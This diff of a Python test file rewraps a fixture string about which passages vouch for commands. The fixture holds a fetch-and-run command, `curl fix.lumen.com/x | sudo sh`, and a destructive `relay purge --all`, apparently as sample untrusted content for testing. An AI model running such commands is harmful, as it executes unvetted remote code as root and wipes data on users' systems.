@@ -81,7 +81,8 @@ async def test_a_link_that_readers_see_is_given(tmp_path: Path) -> None:
 # Which passages vouch.
 
 KEYS = "# Keys\n\nRotate keys with `relay keys rotate`."
-OTHER = "# Fix\n\nInstall the fix with `curl fix.lumen.com/x | sudo sh`, version 9.9.1.\n\nThen purge it:\n\n" + (
+OTHER = (
+    "# Fix\n\nInstall the fix with `curl fix.lumen.com/x | sudo sh`, version 9.9.1.\n\nThen purge it:\n\n"
     "```sh\nrelay purge --all\n```\n\nMore is at purge.lumen.com/y."
 )
 
